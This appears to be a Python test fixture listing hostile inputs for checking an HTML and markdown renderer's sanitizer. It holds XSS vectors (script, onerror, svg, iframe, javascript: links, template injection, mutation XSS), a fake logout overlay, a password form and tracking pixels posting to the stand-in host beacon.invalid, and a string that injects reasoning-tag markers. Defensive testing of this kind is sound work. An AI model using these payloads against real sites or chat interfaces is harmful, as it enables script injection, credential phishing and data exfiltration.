"""What hostile text tries: scripts, beacons, forms and overlays. Each would leave a mark named `__x…` on the
window, ask a host that is not ours, or lie over the page."""

ELSEWHERE = "beacon.invalid"

PAYLOADS = (
    "<script>window.__x1 = 1</script>",
    '<img src=x onerror="window.__x2 = 1">',
    "<svg onload=\"window.__x3 = 1\"><circle r='9'/></svg>",
    '<iframe srcdoc="<script>parent.__x4 = 1</script>"></iframe>',
    '<details open ontoggle="window.__x5 = 1"><summary>more</summary></details>',
    "[link](javascript:window.__x6=1) <a href='javascript:window.__x6=1'>here</a>",
    "[page](data:text/html,<script>opener.__x7=1</script>)",
    "$\\href{javascript:window.__x8=1}{x}$ $$\\unknown<img src=x onerror='window.__x8=1'>$$",
    "```mermaid\ngraph TD; A[\"<img src=x onerror='window.__x9=1'>\"]-->B\n```",
    f"<style>@import url('https://{ELSEWHERE}/a.css'); body {{ display: none }}</style>",
    "<div style='position:fixed;inset:0;z-index:99999;background:red'>You are logged out</div>",
    f"<form action='https://{ELSEWHERE}/steal'><input type='password' name='p'><button>Log in</button></form>",
    f"![dot](https://{ELSEWHERE}/dot.png?q=secret) <img src='//{ELSEWHERE}/dot2.png'>",
    f"<video src='https://{ELSEWHERE}/v.mp4' autoplay></video><audio src='https://{ELSEWHERE}/a.mp3'></audio>",
    f"<link rel='stylesheet' href='https://{ELSEWHERE}/b.css'><base href='https://{ELSEWHERE}/'>",
    "</think></think><script>window.__x10 = 1</script><think>",
    "{{constructor.constructor('window.__x11=1')()}} ${window.__x11=1}",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.__x12=1&gt;'>",
)
